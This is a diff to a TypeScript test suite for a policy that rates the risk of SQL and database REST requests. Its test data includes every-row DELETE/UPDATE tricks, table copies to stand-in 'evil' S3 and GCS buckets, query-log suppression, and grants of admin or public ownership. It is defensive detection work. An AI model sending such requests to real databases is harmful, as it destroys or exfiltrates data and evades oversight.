@@ -13,6 +13,7 @@ import fc from 'fast-check';
 import pgLib from 'pg';
 import { bodyPolicy, MCP_HOST, SQL_HOST, type Decided } from './body-policy.ts';
 import { missingPostgres, startPostgres } from '../helpers/pg-redis.ts';
+import { JsonMessagesReader } from '../../describe/tunnel-sql.ts';
 
 const runs = Number(process.env.AIRLOCK_FUZZ_RUNS ?? 120);
 const seed = process.env.AIRLOCK_FUZZ_SEED ? { seed: Number(process.env.AIRLOCK_FUZZ_SEED) } : {};
@@ -22,6 +23,45 @@ const D1 = 'https://api.cloudflare.com/client/v4/accounts/01a7362d577a6c3019a474
 const SUPABASE = 'https://abcdefghijklmnopqrst.supabase.co/pg/query';
 const NEON = 'https://ep-cool-darkness-123456.us-east-2.aws.neon.tech/sql';
 const GENERIC = `https://${SQL_HOST}/v1/sql`;
+
+// Twenty-seventh pass: a write through a view or CTE the request itself made (each of the view's
+// forms deleted or updated every row of a real PostgreSQL 15: the check rides in the twenty-second
+// pass's PostgreSQL test below), and the SQL-over-REST services' own spellings of a condition every
+// row meets: Snowflake's and Databricks' `IDENTIFIER('id')` (a column named by a string), Athena's
+// `ExecutionParameters` (SQL literals written into the query's `?`).
+const throughViews: Array<[string, string]> = [
+  ['SELECT id, 1 AS k FROM users', 'k = 1'],
+  ["SELECT *, 'a' AS k FROM users", "k = 'a'"],
+  ['SELECT id, id AS k FROM users', 'id = k'],
+  ['SELECT id, true AS k FROM users', 'k'],
+  ['SELECT id, NULL::int AS k FROM users', 'k IS NULL'],
+  ['SELECT id AS k, email FROM users', 'k > 0'],
+  ['SELECT id, email AS k, email AS e FROM users', 'k = e'],
+];
+// A WHERE that names only another table's columns: every row of the target, or none.
+const otherTableOnly = [
+  'DELETE FROM users USING orders o WHERE o.id = 1',
+  "UPDATE users SET role = 'admin' FROM orders o WHERE o.id = 1",
+  'DELETE FROM users USING orders WHERE orders.id = 1 AND orders.total > 0',
+  'DELETE FROM users WHERE EXISTS (SELECT 1 FROM orders WHERE orders.id = 1)',
+  'DELETE FROM users WHERE EXISTS (SELECT 1 FROM orders WHERE id = 1)',
+  'DELETE FROM users WHERE (SELECT count(*) FROM orders WHERE id = 1) > 0',
+  'DELETE FROM users WHERE 1 IN (SELECT id FROM orders)',
+  "UPDATE users SET role = 'admin' WHERE EXISTS (SELECT 1 FROM users WHERE users.id = 1)",
+];
+const otherTableControls = [
+  'DELETE FROM users USING orders o WHERE o.user_id = users.id AND o.id = 1',
+  'DELETE FROM users u USING orders o WHERE o.user_id = u.id AND o.id = 7',
+  'DELETE FROM users WHERE id IN (SELECT user_id FROM orders WHERE id = 1)',
+  'DELETE FROM users WHERE EXISTS (SELECT 1 FROM orders o WHERE o.user_id = users.id AND o.id = 1)',
+  "UPDATE users SET role = o.note FROM orders o WHERE users.id = o.user_id",
+];
+const throughViewControls: Array<[string, string]> = [
+  ['SELECT id, 1 AS k FROM users WHERE id = 5', 'k = 1'],
+  ['SELECT id, email AS k FROM users', "k = 'a'"],
+  ['SELECT id, 1 AS k FROM users', 'id = 5'],
+  ['SELECT id AS k, email FROM users', 'k = 7'],
+];
 
 const ident = fc.stringMatching(/^[a-z][a-z0-9_]{0,10}$/).filter((s) => !reserved.has(s));
 const reserved = new Set(['do', 'on', 'in', 'is', 'or', 'as', 'by', 'to', 'if', 'of', 'at', 'no', 'all', 'and', 'any', 'asc', 'end', 'for', 'not', 'set', 'use', 'key', 'row', 'add', 'new', 'old', 'off', 'raw', 'sql', 'abort', 'true', 'false', 'null', 'case', 'cast', 'else', 'from', 'into', 'join', 'like', 'then', 'when', 'with', 'desc', 'drop', 'full', 'glob', 'left', 'limit', 'order', 'outer', 'right', 'select', 'table', 'union', 'where', 'view', 'user', 'only', 'some', 'both', 'rows', 'rowid', 'oid', 'first', 'last', 'over', 'plan', 'query', 'temp', 'match', 'range', 'after', 'before', 'begin', 'check', 'group', 'index', 'inner', 'values', 'update', 'delete', 'insert', 'create', 'column', 'default', 'exists', 'having', 'offset', 'except', 'escape', 'filter', 'window', 'array', 'analyse', 'analyze', 'current_date', 'current_time', 'current_user', 'session_user', 'primary', 'unique', 'foreign', 'references', 'returning', 'similar', 'ilike', 'collate', 'between', 'distinct', 'placing', 'leading', 'trailing', 'fetch', 'grant', 'localtime', 'variadic', 'lateral', 'symmetric', 'asymmetric', 'authorization', 'binary', 'natural', 'cross', 'overlaps', 'verbose', 'freeze', 'notnull', 'isnull', 'concurrently', 'tablesample', 'constraint', 'deferrable', 'initially', 'intersect', 'minvalue', 'recursive', 'exclude', 'others', 'ties', 'groups', 'following', 'preceding', 'unbounded', 'current', 'materialized', 'nothing', 'conflict', 'replace', 'ignore', 'fail', 'rollback', 'instead', 'trigger', 'each', 'statement', 'immediate', 'deferred', 'exclusive', 'transaction', 'savepoint', 'release', 'commit', 'vacuum', 'pragma', 'attach', 'detach', 'reindex', 'explain', 'indexed', 'virtual', 'without', 'regexp', 'autoincrement', 'generated', 'always', 'stored', 'nulls', 'do_', 'is_']);
@@ -2872,6 +2912,32 @@ t.test('twenty-second pass: on a real PostgreSQL, each bound past every value ho
     INSERT INTO users VALUES (1e308, 99999, '', now()), (-1e308, -5, 'zz', '2000-01-01'), (0, 0, E'\\n', now() + interval '100 years')`);
   const { rows } = await client.query(`SELECT ${pastEveryValue.map((w, j) => `count(*) FILTER (WHERE ${w})::int AS c${j}`).join(', ')} FROM users`);
   pastEveryValue.forEach((w, j) => t.equal(rows[0][`c${j}`], 3, w));
+  // Twenty-seventh pass: a DELETE through a view the same request made reaches every row of the
+  // table below it (the controls some), on this server (the view's own columns are values of every row).
+  await client.query('CREATE SCHEMA t27; CREATE TABLE t27.users (id int PRIMARY KEY, email text, role text); INSERT INTO t27.users VALUES (1, \'a\', NULL), (2, \'b\', NULL), (3, \'c\', NULL)');
+  for (const [body, where, left] of [...throughViews.map(([b, w]) => [b, w, 0] as const), ...throughViewControls.map(([b, w]) => [b, w, -1] as const)]) {
+    await client.query('BEGIN; SET LOCAL search_path = t27');
+    try {
+      await client.query(`CREATE TEMP VIEW v AS ${body}; DELETE FROM v WHERE ${where}`);
+      const { rows: [r] } = await client.query('SELECT count(*)::int AS n FROM t27.users');
+      if (left === 0) t.equal(r.n, 0, `every row deleted through ${body} WHERE ${where}`);
+      else t.ok(r.n > 0, `control: rows kept through ${body} WHERE ${where}`);
+    } finally {
+      await client.query('ROLLBACK');
+    }
+  }
+  await client.query('CREATE TABLE t27.orders (id int PRIMARY KEY, user_id int, total int, note text); INSERT INTO t27.orders VALUES (1, 2, 50, \'n\')');
+  for (const [sql, left] of [...otherTableOnly.map((q) => [q, 0] as const), ...otherTableControls.map((q) => [q, -1] as const)]) {
+    await client.query('BEGIN; SET LOCAL search_path = t27');
+    try {
+      await client.query(sql);
+      const { rows: [r] } = await client.query("SELECT count(*) FILTER (WHERE role IS DISTINCT FROM 'admin' AND role IS DISTINCT FROM 'n')::int AS n FROM t27.users");
+      if (left === 0) t.equal(r.n, 0, `every row: ${sql}`);
+      else t.ok(r.n > 0, `control, rows kept: ${sql}`);
+    } finally {
+      await client.query('ROLLBACK');
+    }
+  }
 });
 
 t.test('twenty-second pass: MySQL\'s hexadecimal and bit literals are the strings they spell where a string is wanted', async (t) => {
@@ -3623,5 +3689,354 @@ t.test('twenty-sixth pass: query languages other than SQL are read in their own 
   for (const [risk, r] of controls) {
     const { decision } = await decide({ method: r.method ?? 'POST', url: r.url, headers: r.headers, body: r.body });
     t.equal(decision.approval?.risk, risk, `${r.method ?? 'POST'} ${r.url} ${r.body}`);
+  }
+});
+
+t.test('twenty-seventh pass: a write through a view or CTE the request made is judged on the table below it', async (t) => {
+  const made = fc.constantFrom('CREATE VIEW v AS', 'CREATE TEMP VIEW v AS', 'create view public.v as', 'CTE');
+  const write = fc.constantFrom('DELETE FROM v WHERE', 'DELETE FROM v AS x WHERE', "UPDATE v SET role = 'admin' WHERE");
+  const where = (w: string, alias: boolean): string => (alias ? w.replace(/\b(k|id|email)\b/g, 'x.$1') : w);
+  const sqlOf = (m: string, body: string, wr: string, w: string): string => {
+    const target = m.includes('public.') ? wr.replace(' v ', ' public.v ') : wr;
+    const cond = where(w, wr.includes(' x '));
+    return m === 'CTE' ? `WITH v AS (${body}) ${wr} ${cond}` : `${m} ${body}; ${target} ${cond}`;
+  };
+  const endpoints = [SUPABASE, NEON, GENERIC, `https://${SQL_HOST}/api/v2/statements`];
+  const send = async (url: string, sql: string): Promise<Decided> =>
+    decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(url.endsWith('/statements') ? { statement: sql } : { query: sql }) });
+  await fc.assert(fc.asyncProperty(made, fc.constantFrom(...throughViews), write, fc.constantFrom(...endpoints), async (m, [body, w], wr, url) => {
+    // The UPDATE needs the view to carry `role`: `*` does.
+    const view = wr.startsWith('UPDATE') ? body.replace(/^SELECT /, 'SELECT *, ').replace(/\bid AS k, email\b/, 'id AS k') : body;
+    const sql = sqlOf(m, view, wr, w);
+    const { description, decision } = await send(url, sql);
+    t.equal(decision.approval?.risk, 'critical', `${url} ${sql}`);
+    t.ok(description.sql?.destructive, sql);
+  }), { numRuns: 14, ...seed });
+  for (const [body, w] of throughViewControls) {
+    for (const url of [SUPABASE, GENERIC]) {
+      const sql = sqlOf('CREATE VIEW v AS', body, 'DELETE FROM v WHERE', w);
+      const { description } = await send(url, sql);
+      t.notOk(description.sql?.destructive, `control: ${url} ${sql}`);
+    }
+  }
+});
+
+t.test('twenty-seventh pass: SQL-over-REST services\' own spellings of a condition every row meets (IDENTIFIER, Athena parameters)', async (t) => {
+  const snowflake = `https://${SQL_HOST}/api/v2/statements`;
+  const databricks = `https://${SQL_HOST}/api/2.0/sql/statements`;
+  const identifier = fc.record({
+    form: fc.constantFrom("id = IDENTIFIER('id')", "IDENTIFIER('users.id') = id", "identifier('ID') = id", "id = Identifier('\"id\"')", "email = IDENTIFIER('email') AND id > 5 OR IDENTIFIER('id') >= id"),
+    url: fc.constantFrom(snowflake, databricks),
+    update: fc.boolean(),
+  });
+  await fc.assert(fc.asyncProperty(identifier, async ({ form, url, update }) => {
+    const sql = `${update ? "UPDATE users SET role = 'admin'" : 'DELETE FROM users'} WHERE ${form}`;
+    const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ statement: sql, warehouse_id: 'w' }) });
+    t.equal(decision.approval?.risk, 'critical', `${url} ${sql}`);
+  }), { numRuns: 12, ...seed });
+  const athena = (query: string, params: string[]): Promise<Decided> => decide({
+    url: `https://${SQL_HOST}/`, headers: [['Content-Type', 'application/x-amz-json-1.1'], ['X-Amz-Target', 'AmazonAthena.StartQueryExecution']],
+    body: JSON.stringify({ QueryString: query, ExecutionParameters: params, WorkGroup: 'primary' }),
+  });
+  const everyRow: Array<[string, string[]]> = [
+    ['DELETE FROM users WHERE email LIKE ?', ["'%'"]],
+    ['DELETE FROM users WHERE id > ?', ['0']],
+    ["DELETE FROM users WHERE email = '?' OR email LIKE ? -- ?", ["'%%'"]],
+    ['DELETE FROM users WHERE id = ? /* ? */ OR email LIKE ?', ['5', "'%'"]],
+    ['UPDATE users SET role = ? WHERE email LIKE ?', ["'admin'", "'%'"]],
+  ];
+  for (const [query, params] of everyRow) t.equal((await athena(query, params)).decision.approval?.risk, 'critical', `${query} ${params.join(', ')}`);
+  // Controls: narrow values stay narrow (the host's own reading of an AWS JSON body may hold them higher).
+  for (const [query, params] of [['DELETE FROM users WHERE email LIKE ?', ["'a%'"]], ['DELETE FROM users WHERE id = ?', ['5']], ["DELETE FROM users WHERE email = '?' AND email LIKE ?", ["'%'"]]] as Array<[string, string[]]>) {
+    const { description, decision } = await athena(query, params);
+    t.notOk(description.sql?.destructive, `control: ${query} ${params.join(', ')}`);
+    t.not(decision.approval?.risk, 'critical', `control: ${query}`);
+  }
+  // A UUID held as text, bounded by a run of zeros of any length or a letter past `f` (D1 and an
+  // endpoint of unknown dialect: SQLite and MySQL's CHAR(36); a text column on Supabase), each
+  // counted on every row of Python's sqlite3 below.
+  const uuidBounds = ["uuid > '0'", "uuid >= '0000'", "user_uuid > '00000000-0000'", "ref > '0000-'", "id >= '00000000'", "'0' < uuid", "uuid < 'g'", "guid <= 'z'"];
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...uuidBounds), fc.constantFrom(D1, GENERIC, SUPABASE), fc.boolean(), async (w, url, update) => {
+    const sql = `${update ? "UPDATE users SET role = 'admin'" : 'DELETE FROM users'} WHERE ${w}`;
+    const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(url === D1 ? { sql } : { query: sql }) });
+    t.equal(decision.approval?.risk, 'critical', `${url} ${sql}`);
+  }), { numRuns: 12, ...seed });
+  const uuidControls = ["uuid = '0'", "uuid > '1'", "guid < 'G'", "amount > '0'", "code > '00'", "uuid > '6f1c0f62'", "uuid > '{0'"];
+  for (const w of uuidControls) {
+    for (const url of [D1, GENERIC]) {
+      const { description } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(url === D1 ? { sql: `DELETE FROM users WHERE ${w}` } : { query: `DELETE FROM users WHERE ${w}` }) });
+      t.notOk(description.sql?.destructive, `control: ${url} ${w}`);
+    }
+  }
+  const counted = await new Promise<string>((resolve, reject) => execFile('python3', ['-c', [
+    'import sqlite3, sys, json, uuid',
+    'c = sqlite3.connect(":memory:")',
+    'c.execute("CREATE TABLE users (id TEXT, uuid TEXT, user_uuid TEXT, ref TEXT, guid TEXT)")',
+    'for i in range(200):',
+    '  u = [str(uuid.uuid4()) for _ in range(5)]',
+    '  c.execute("INSERT INTO users VALUES (?, ?, ?, ?, ?)", [u[0], u[1], u[2].upper() if i % 2 else u[2], u[3], u[4]])',
+    'print(json.dumps([c.execute("SELECT count(*) FROM users WHERE " + w).fetchone()[0] for w in json.loads(sys.argv[1])]))',
+  ].join('\n'), JSON.stringify(uuidBounds)], (err, out) => (err ? reject(err) : resolve(out))));
+  t.same(JSON.parse(counted), uuidBounds.map(() => 200), 'each bound held for every row of a real SQLite');
+  // The lakehouse engines' and RDS's procedures that discard a table's later writes or history, or
+  // end others' work, by Trino's statement API, Databricks' and PlanetScale's HTTP.
+  const trino = (sql: string): Promise<Decided> => decide({ url: `https://${SQL_HOST}/v1/statement`, headers: [['Content-Type', 'text/plain'], ['X-Trino-User', 'a']], body: sql });
+  const procedures = fc.record({
+    call: fc.constantFrom("iceberg.system.rollback_to_snapshot('db', 'users', 8744736658442914487)", "system.rollback_to_timestamp('db.users', TIMESTAMP '2000-01-01 00:00:00')",
+      "catalog.system.set_current_snapshot(table => 'db.users', snapshot_id => 1)", "delta.system.vacuum('db', 'users', '0s')", "iceberg.system.remove_orphan_files(table => 'db.users')",
+      "system.runtime.kill_query(query_id => '20250101_000000_00001_abcde', message => 'x')", 'mysql.rds_kill(42)', "hive.system.sync_partition_metadata('db', 'users', 'FULL')",
+      "iceberg.system.unregister_table('db', 'users')", "system.expire_snapshots('db.users', TIMESTAMP '2100-01-01 00:00:00', 1)"),
+    upper: fc.boolean(),
+  });
+  await fc.assert(fc.asyncProperty(procedures, async ({ call, upper }) => {
+    const sql = `${upper ? 'CALL' : 'call'} ${call}`;
+    t.equal((await trino(sql)).decision.approval?.risk, 'critical', sql);
+  }), { numRuns: 12, ...seed });
+  for (const sql of ["CALL iceberg.system.rewrite_data_files('db.users')", 'CALL my_proc(1)', "CALL system.flush_metadata_cache()"]) t.notOk((await trino(sql)).description.sql?.destructive, `control: ${sql}`);
+  // ClickHouse's HTTP interface takes the URL's other parameters as the query's settings: those
+  // that make an INSERT empty its table first, hide the query from the query log, or show engines'
+  // secrets, and the same by SET in a session.
+  const ch = `http://${SQL_HOST}:8123/`;
+  const chSetting = fc.record({
+    set: fc.constantFrom('engine_file_truncate_on_insert=1', 's3_truncate_on_insert=true', 'hdfs_truncate_on_insert=1', 'azure_truncate_on_insert=1', 'log_queries=0', 'log_queries=false', 'format_display_secrets_in_show_and_select=1'),
+    query: fc.constantFrom('INSERT INTO logs VALUES (1)', 'SELECT 1', 'SHOW CREATE TABLE mysql_mirror', "INSERT INTO logs (a) VALUES ('x')"),
+    first: fc.boolean(), get: fc.boolean(),
+  });
+  await fc.assert(fc.asyncProperty(chSetting, async ({ set, query, first, get }) => {
+    const q = `query=${encodeURIComponent(query)}`;
+    const url = `${ch}?${first ? `${set}&${q}` : `${q}&${set}`}`;
+    const method = get && !query.startsWith('INSERT') ? 'GET' : 'POST';
+    t.equal((await decide({ method, url, headers: [], body: '' })).decision.approval?.risk, 'critical', `${method} ${url}`);
+  }), { numRuns: 12, ...seed });
+  for (const sql of ['SET engine_file_truncate_on_insert = 1', 'SET log_queries = 0', "SET format_display_secrets_in_show_and_select = 'true'"]) {
+    t.equal((await decide({ url: `${ch}?session_id=s`, headers: [['Content-Type', 'text/plain']], body: sql })).decision.approval?.risk, 'critical', sql);
+  }
+  for (const url of [`${ch}?query=${encodeURIComponent('SELECT 1')}&log_queries=1&max_threads=2`, `${ch}?query=${encodeURIComponent('SELECT 1')}&engine_file_truncate_on_insert=0`]) {
+    t.equal((await decide({ method: 'GET', url, headers: [], body: '' })).decision.action, 'allow', `control: ${url}`);
+  }
+  t.equal((await decide({ url: `${ch}?session_id=s`, headers: [['Content-Type', 'text/plain']], body: 'SET max_threads = 4' })).decision.approval?.risk, 'medium', 'control: SET max_threads');
+  // Snowflake's array binding runs the statement once per element.
+  const sf = (statement: string, bindings: unknown): Promise<Decided> => decide({ url: `https://${SQL_HOST}/api/v2/statements`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ statement, bindings }) });
+  await fc.assert(fc.asyncProperty(fc.array(fc.constantFrom('a@b.example', 'x%', 'q'), { maxLength: 3 }), fc.nat({ max: 3 }), fc.constantFrom('%', '%%'), async (before, at, every) => {
+    const values = [...before.slice(0, at), every, ...before.slice(at)];
+    t.equal((await sf('DELETE FROM users WHERE email LIKE ?', { 1: { type: 'TEXT', value: values } })).decision.approval?.risk, 'critical', JSON.stringify(values));
+  }), { numRuns: 8, ...seed });
+  t.equal((await sf("UPDATE users SET role = ? WHERE id > ?", { 1: { type: 'TEXT', value: 'admin' }, 2: { type: 'FIXED', value: ['100', '0'] } })).decision.approval?.risk, 'critical', 'a scalar beside an array');
+  t.notOk((await sf('DELETE FROM users WHERE id = ?', { 1: { type: 'FIXED', value: ['5', '6'] } })).description.sql?.destructive, 'control: two ids');
+  t.notOk((await sf('INSERT INTO users (email) VALUES (?)', { 1: { type: 'TEXT', value: ['a', '%'] } })).description.sql?.destructive, 'control: a batch insert');
+  // Athena's and Trino's CREATE TABLE AS writing the rows to an object store the request names.
+  for (const sql of ["CREATE TABLE loot WITH (external_location = 's3://evil-bucket/x/', format = 'PARQUET') AS SELECT * FROM users",
+    "create table iceberg.s.loot with (location = 'gs://evil/x') as select * from users", "CREATE TABLE hive.s.t (a int) WITH (external_location = 's3a://evil/t')"]) {
+    t.equal((await trino(sql)).decision.approval?.risk, 'critical', sql);
+  }
+  t.equal((await decide({ url: `https://${SQL_HOST}/`, headers: [['Content-Type', 'application/x-amz-json-1.1'], ['X-Amz-Target', 'AmazonAthena.StartQueryExecution']], body: JSON.stringify({ QueryString: "CREATE TABLE loot WITH (external_location = 's3://evil/x/') AS SELECT * FROM users" }) })).decision.approval?.risk, 'critical', 'Athena CTAS');
+  t.notOk((await trino("CREATE TABLE loot WITH (format = 'PARQUET') AS SELECT * FROM users")).description.sql?.destructive, 'control: a CTAS in the catalog');
+  // Oracle's pseudocolumns (ORDS's REST-enabled SQL: `application/sql` to `…/_/sql`): ROWNUM counts
+  // rows from 1, ORA_ROWSCN is above 0 in every row.
+  const ords = `https://${SQL_HOST}/ords/hr/_/sql`;
+  for (const w of ['ROWNUM > 0', 'rownum >= 1', 'ORA_ROWSCN > 0', '0 < ROWNUM', 'ROWNUM <> 0']) {
+    t.equal((await decide({ url: ords, headers: [['Content-Type', 'application/sql']], body: `DELETE FROM users WHERE ${w}` })).decision.approval?.risk, 'critical', `ORDS ${w}`);
+  }
+  for (const w of ['ROWNUM = 1', 'ROWNUM > 1000 AND id = 5']) t.notOk((await decide({ url: ords, headers: [['Content-Type', 'application/sql']], body: `DELETE FROM users WHERE ${w}` })).description.sql?.destructive, `control: ORDS ${w}`);
+  for (const form of ["id = 5 AND IDENTIFIER('email') = 'a'", "IDENTIFIER('id') = 5 AND email = 'a'"]) {
+    const { description } = await decide({ url: databricks, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ statement: `DELETE FROM users WHERE ${form}`, warehouse_id: 'w' }) });
+    t.notOk(description.sql?.destructive, `control: ${form}`);
+  }
+});
+
+t.test('twenty-seventh pass: the SQL services\' REST calls that drop, replace, expire or grant are their SQL twins', async (t) => {
+  // Databricks' Unity Catalog, Snowflake's REST API and BigQuery's tables and datasets, on a host
+  // no module owns (each a medium write on main, while the DROP, GRANT or CREATE OR REPLACE it
+  // stands for is critical). Documented request shapes, replayed.
+  const host = `https://${SQL_HOST}`;
+  type Call = { method: string; url: string; body?: unknown };
+  const name = fc.stringMatching(/^[a-z][a-z0-9_]{0,8}$/);
+  const calls = fc.record({ a: name, b: name, c: name, k: fc.integer({ min: 0, max: 21 }), upper: fc.boolean() }).map(({ a, b, c, k, upper }): Call => {
+    const up = (s: string): string => (upper ? s.toUpperCase() : s);
+    return [
+      { method: 'DELETE', url: `${host}/api/2.1/unity-catalog/catalogs/${a}?force=true` },
+      { method: 'DELETE', url: `${host}/api/2.1/unity-catalog/schemas/${a}.${b}` },
+      { method: 'DELETE', url: `${host}/api/v2/databases/${a}/schemas/${b}` },
+      { method: 'PATCH', url: `${host}/api/2.1/unity-catalog/permissions/table/${a}.${b}.${c}`, body: { changes: [{ principal: 'account users', add: ['ALL_PRIVILEGES'] }] } },
+      { method: 'PATCH', url: `${host}/api/2.0/permissions/sql/warehouses/${a}`, body: { access_control_list: [{ group_name: 'users', permission_level: 'CAN_MANAGE' }] } },
+      { method: 'POST', url: `${host}/api/v2/roles/${a}/grants`, body: { securable_type: 'TABLE', securable: { database: b, schema: 'public', name: c }, privileges: ['OWNERSHIP'] } },
+      { method: 'POST', url: `${host}/api/v2/users/${a}/grants`, body: { securable_type: 'ROLE', securable: { name: 'ACCOUNTADMIN' } } },
+      { method: 'POST', url: `${host}/api/v2/database-roles/${a}/grants:revoke`, body: { privileges: ['SELECT'] } },
+      { method: 'POST', url: `${host}/bigquery/v2/projects/p/datasets/${a}/tables/${b}:setIamPolicy`, body: { policy: { bindings: [{ role: 'roles/bigquery.dataOwner', members: ['allUsers'] }] } } },
+      { method: 'PATCH', url: `${host}/bigquery/v2/projects/p/datasets/${a}`, body: { access: [{ role: 'OWNER', specialGroup: 'allAuthenticatedUsers' }] } },
+      { method: 'PATCH', url: `${host}/api/2.1/unity-catalog/tables/${a}.${b}.${c}`, body: { owner: 'eve' } },
+      { method: 'POST', url: `${host}/api/v2/databases/${a}/schemas/${b}/tables?createMode=${up('orReplace')}`, body: { name: c, columns: [{ name: 'id', datatype: 'int' }] } },
+      { method: 'POST', url: `${host}/api/v2/databases/${a}?createMode=orReplace` },
+      { method: 'POST', url: `${host}/api/v2/databases/${a}/schemas/${b}/tables/${c}:swap-with?targetName=empty` },
+      { method: 'PUT', url: `${host}/api/v2/databases/${a}/schemas/${b}/tables/${c}`, body: { name: c, columns: [{ name: 'id', datatype: 'int' }] } },
+      { method: 'PATCH', url: `${host}/bigquery/v2/projects/p/datasets/${a}/tables/${b}`, body: { expirationTime: '1' } },
+      { method: 'PUT', url: `${host}/bigquery/v2/projects/p/datasets/${a}/tables/${b}`, body: { tableReference: { tableId: b }, expirationTime: String(Date.UTC(2026, 0, 6)) } },
+      { method: 'PATCH', url: `${host}/bigquery/v2/projects/p/datasets/${a}/tables/${b}`, body: { timePartitioning: { type: 'DAY', expirationMs: '1' } } },
+      { method: 'DELETE', url: `${host}/v1/organizations/${a}/databases/${b}/branches/${up('main')}` },
+      { method: 'DELETE', url: `${host}/api/atlas/v2/groups/${a}/clusters/${b}` },
+      { method: 'POST', url: `${host}/v2/databases/${a}/terminate` },
+      { method: 'DELETE', url: `${host}/v2/databases/${a}/keyspaces/${b}` },
+    ][k]!;
+  });
+  const send = (c: Call): Promise<Decided> => decide({ method: c.method, url: c.url, headers: c.body === undefined ? [] : [['Content-Type', 'application/json']], body: c.body === undefined ? '' : JSON.stringify(c.body) });
+  await fc.assert(fc.asyncProperty(calls, async (c) => {
+    const { decision } = await send(c);
+    t.equal(decision.approval?.risk, 'critical', `${c.method} ${c.url} ${JSON.stringify(c.body ?? '')}`);
+  }), { numRuns: 24, ...seed });
+  // BigQuery's multipart job upload: the job's JSON is the first part of a multipart/related body.
+  const upload = (job: unknown, crlf: boolean): Promise<Decided> => {
+    const nl = crlf ? '\r\n' : '\n';
+    const body = `--XB${nl}Content-Type: application/json; charset=UTF-8${nl}${nl}${JSON.stringify(job)}${nl}--XB${nl}Content-Type: application/octet-stream${nl}${nl}a,b${nl}--XB--${nl}`;
+    return decide({ url: `${host}/upload/bigquery/v2/projects/p/jobs?uploadType=multipart`, headers: [['Content-Type', 'multipart/related; boundary=XB']], body });
+  };
+  const load = (disposition: string): unknown => ({ configuration: { load: { destinationTable: { projectId: 'p', datasetId: 'ds', tableId: 'users' }, writeDisposition: disposition, sourceFormat: 'CSV' } } });
+  for (const crlf of [true, false]) t.equal((await upload(load('WRITE_TRUNCATE'), crlf)).decision.approval?.risk, 'critical', `a multipart load job with WRITE_TRUNCATE (${crlf ? 'CRLF' : 'LF'})`);
+  t.notOk((await upload(load('WRITE_APPEND'), true)).description.sql?.destructive, 'control: a multipart load job that appends');
+  t.notOk((await upload({ name: 'report.csv', parents: ['x'] }, true)).description.sql, 'control: another resource\'s metadata part');
+  const controls: Array<[string | undefined, Call]> = [
+    ['medium', { method: 'PATCH', url: `${host}/bigquery/v2/projects/p/datasets/ds/tables/users`, body: { description: 'users' } }],
+    ['medium', { method: 'PATCH', url: `${host}/bigquery/v2/projects/p/datasets/ds`, body: { description: 'x' } }],
+    ['medium', { method: 'POST', url: `${host}/api/v2/databases/db/schemas/s/tables?createMode=ifNotExists`, body: { name: 't', columns: [] } }],
+    ['medium', { method: 'POST', url: `${host}/api/v2/databases/db/schemas/s/tables`, body: { name: 't', columns: [] } }],
+    ['medium', { method: 'PATCH', url: `${host}/api/2.1/unity-catalog/tables/main.default.users`, body: { comment: 'x' } }],
+    ['medium', { method: 'DELETE', url: `${host}/api/items/5` }],
+    ['medium', { method: 'POST', url: `${host}/api/2.0/sql/statements`, body: { statement: 'SELECT 1', warehouse_id: 'w' } }],
+    [undefined, { method: 'GET', url: `${host}/api/2.1/unity-catalog/permissions/table/main.default.users` }],
+    [undefined, { method: 'GET', url: `${host}/api/v2/roles/analyst/grants` }],
+    ['medium', { method: 'POST', url: `${host}/v1/organizations/o/databases/d/branches`, body: { name: 'dev', parent_branch: 'main' } }],
+    ['medium', { method: 'DELETE', url: `${host}/v1/organizations/o/databases/d/branches/dev/passwords/p1` }],
+  ];
+  for (const [risk, c] of controls) t.equal((await send(c)).decision.approval?.risk, risk, `control: ${c.method} ${c.url}`);
+});
+
+t.test('twenty-seventh pass: CouchDB\'s calls that drop, open up, configure or delete are read as their twins', async (t) => {
+  // Left open by the twenty-sixth pass (CouchDB's API was not read): each a medium write on an
+  // allowed host. Documented request shapes, replayed.
+  const couch = `http://${SQL_HOST}:5984`;
+  type Call = { method: string; url: string; body?: unknown };
+  const db = fc.stringMatching(/^[a-z][a-z0-9_$()+-]{0,10}$/);
+  const calls = fc.record({ d: db, k: fc.integer({ min: 0, max: 6 }), tls: fc.boolean() }).map(({ d, k, tls }): Call => {
+    const base = tls ? `https://${SQL_HOST}:6984` : couch;
+    return [
+      { method: 'DELETE', url: `${base}/${encodeURIComponent(d)}` },
+      { method: 'PUT', url: `${base}/${d}/_security`, body: { admins: { names: [], roles: [] }, members: { names: [], roles: [] } } },
+      { method: 'PUT', url: `${base}/_node/_local/_config/admins/eve`, body: 'secret' },
+      { method: 'PUT', url: `${base}/_node/nonode@nohost/_config/chttpd/require_valid_user`, body: 'false' },
+      { method: 'DELETE', url: `${base}/_config/admins/admin` },
+      { method: 'PUT', url: `${base}/_users/org.couchdb.user:eve`, body: { name: 'eve', password: 'x', roles: ['admins'], type: 'user' } },
+      { method: 'POST', url: `${base}/_users`, body: { _id: 'org.couchdb.user:eve', name: 'eve', password: 'x', roles: [], type: 'user' } },
+    ][k]!;
+  });
+  const send = (c: Call): Promise<Decided> => decide({ method: c.method, url: c.url, headers: c.body === undefined ? [] : [['Content-Type', 'application/json']], body: c.body === undefined ? '' : JSON.stringify(c.body) });
+  await fc.assert(fc.asyncProperty(calls, async (c) => {
+    t.equal((await send(c)).decision.approval?.risk, 'critical', `${c.method} ${c.url}`);
+  }), { numRuns: 16, ...seed });
+  // _purge and _bulk_docs deletes are read as the DELETE of the documents they name: narrow, and
+  // a grant for one names its ids.
+  const purge = await send({ method: 'POST', url: `${couch}/users/_purge`, body: { a: ['1-x'], b: ['2-y'] } });
+  t.match(purge.description.sql?.statements?.[0]?.text, /DELETE FROM "users" WHERE _id IN \('a', 'b'\)/);
+  const bulk = await send({ method: 'POST', url: `${couch}/users/_bulk_docs`, body: { docs: [{ _id: 'a', _rev: '1-x', _deleted: true }, { _id: 'c', v: 1 }] } });
+  t.match(bulk.description.sql?.statements?.[0]?.text, /DELETE FROM "users" WHERE _id IN \('a'\)/);
+  t.equal(bulk.decision.approval?.risk, 'medium');
+  t.equal((await send({ method: 'POST', url: `${couch}/users/_bulk_docs`, body: { docs: [{ _deleted: true }] } })).decision.approval?.risk, 'critical', 'a bulk delete naming no document');
